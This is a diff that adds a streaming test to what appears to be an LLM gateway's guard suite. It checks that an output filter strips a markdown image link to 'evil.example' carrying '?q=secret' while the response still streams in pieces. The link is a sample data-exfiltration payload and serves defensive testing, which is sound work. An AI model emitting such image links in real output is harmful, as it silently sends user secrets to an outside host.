@@ -234,3 +234,16 @@ def test_pii_and_moderation_guards_are_registered_and_act_on_chat(make, tmp_path
     db = sqlite3.connect(tmp_path / "home" / "audit.db")
     stored = " ".join(r[0] + r[1] for r in db.execute("SELECT prompt, output FROM requests"))
     assert "jane.doe@example.com" not in stored and "[EMAIL]" in stored
+
+
+def test_a_stream_without_sentence_ends_is_still_streamed_and_links_are_still_caught(make):
+    client = make(guard_output="links")
+    words = "word " * 40 + "see ![x](https://evil.example/p.png?q=secret) then " + "more " * 30
+    r = _chat(client, words, stream=True, temperature=0)
+    events = [json.loads(e[6:]) for e in r.text.split("\n\n") if e.startswith("data: {")]
+    pieces = [c["choices"][0]["delta"].get("content") for c in events if c.get("choices")]
+    pieces = [p for p in pieces if p]
+    assert len(pieces) >= 4, pieces  # released as it goes (bounded hold-back), not in one piece at the end
+    text = "".join(pieces)
+    assert "evil.example" not in text and text.startswith("You said: word word")
+    assert text.rstrip().endswith("more more")
